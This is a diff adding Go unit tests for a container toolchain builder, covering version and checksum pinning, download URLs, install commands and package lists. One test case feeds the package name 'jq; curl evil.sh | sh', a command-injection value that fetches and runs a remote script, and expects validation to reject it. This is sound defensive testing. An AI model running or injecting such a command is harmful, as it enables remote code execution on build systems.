@@ -0,0 +1,90 @@
+package container
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+const testChecksum = "6c2e5f4b9b0d3a1c7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d"
+
+func TestToolchain_Validate(t *testing.T) {
+	tests := []struct {
+		name      string
+		toolchain Toolchain
+		wantErr   bool
+	}{
+		{"empty", Toolchain{}, false},
+		{"pinned", Toolchain{Base: ToolchainBaseAlpine, Terraform: &ToolchainTool{Version: "1.7.5", SHA256: testChecksum}}, false},
+		{"unknown base", Toolchain{Base: "ubuntu"}, true},
+		{"invalid platform", Toolchain{Platform: "amd64"}, true},
+		{"no version", Toolchain{Terraform: &ToolchainTool{SHA256: testChecksum}}, true},
+		{"no checksum", Toolchain{TFLint: &ToolchainTool{Version: "0.50.3"}}, true},
+		{"invalid checksum", Toolchain{Terragrunt: &ToolchainTool{Version: "0.55.1", SHA256: "abc"}}, true},
+		{"pinned packages", Toolchain{Packages: []string{"jq=1.6-2.1", "git=1:2.39.2-1.1", "python3"}}, false},
+		{"invalid package", Toolchain{Packages: []string{"jq; curl evil.sh | sh"}}, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := tt.toolchain.Validate(); (err != nil) != tt.wantErr {
+				t.Errorf("Validate() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestToolchainTool_getURL(t *testing.T) {
+	tool := &ToolchainTool{Version: "1.7.5"}
+	if got := tool.getURL(defaultTerraformURL, "linux", "arm64"); got != "https://releases.hashicorp.com/terraform/1.7.5/terraform_1.7.5_linux_arm64.zip" {
+		t.Errorf("getURL() = %s", got)
+	}
+
+	tool.URL = "https://mirror.example.com/terraform/{version}/{os}-{arch}.zip"
+	if got := tool.getURL(defaultTerraformURL, "linux", "amd64"); got != "https://mirror.example.com/terraform/1.7.5/linux-amd64.zip" {
+		t.Errorf("getURL() = %s", got)
+	}
+}
+
+func TestGetToolInstallCommand(t *testing.T) {
+	zip := getToolInstallCommand("terraform", "https://example.com/terraform.zip", "/tmp/terraform.zip", testChecksum)
+	if !strings.Contains(zip[2], "sha256sum -c -") || !strings.Contains(zip[2], "unzip -o -q /tmp/terraform.zip terraform -d /usr/local/bin") {
+		t.Errorf("getToolInstallCommand() = %v", zip)
+	}
+
+	binary := getToolInstallCommand("terragrunt", "https://example.com/terragrunt_linux_amd64", "/tmp/terragrunt_linux_amd64", testChecksum)
+	if !strings.Contains(binary[2], "install -m 0755 /tmp/terragrunt_linux_amd64 /usr/local/bin/terragrunt") {
+		t.Errorf("getToolInstallCommand() = %v", binary)
+	}
+}
+
+func TestToolchain_getPackagesCommand(t *testing.T) {
+	alpine := &Toolchain{Base: ToolchainBaseAlpine, Packages: []string{"jq"}}
+	want := Command{"sh", "-c", "apk add --no-cache ca-certificates git openssh-client unzip jq"}
+	if got := alpine.getPackagesCommand(); !reflect.DeepEqual(got, want) {
+		t.Errorf("getPackagesCommand() = %v, want %v", got, want)
+	}
+
+	debian := &Toolchain{}
+	if got := debian.getPackagesCommand(); !strings.HasPrefix(got[2], "apt-get update && apt-get install") {
+		t.Errorf("getPackagesCommand() = %v", got)
+	}
+
+	if got := debian.getBaseImage(); got != defaultToolchainDebianImage {
+		t.Errorf("getBaseImage() = %s", got)
+	}
+}
+
+func TestToolchain_getPackages_Pinned(t *testing.T) {
+	toolchain := &Toolchain{Packages: []string{"git=1:2.39.2-1.1", "jq=1.6-2.1"}}
+	want := []string{"ca-certificates", "openssh-client", "unzip", "git=1:2.39.2-1.1", "jq=1.6-2.1"}
+	if got := toolchain.getPackages(); !reflect.DeepEqual(got, want) {
+		t.Errorf("getPackages() = %v, want %v", got, want)
+	}
+}
+
+func TestToolchain_getBaseImage_Pinned(t *testing.T) {
+	if !IsDigestReference(defaultToolchainDebianImage) {
+		t.Errorf("the default debian base %s isn't pinned by digest", defaultToolchainDebianImage)
+	}
+}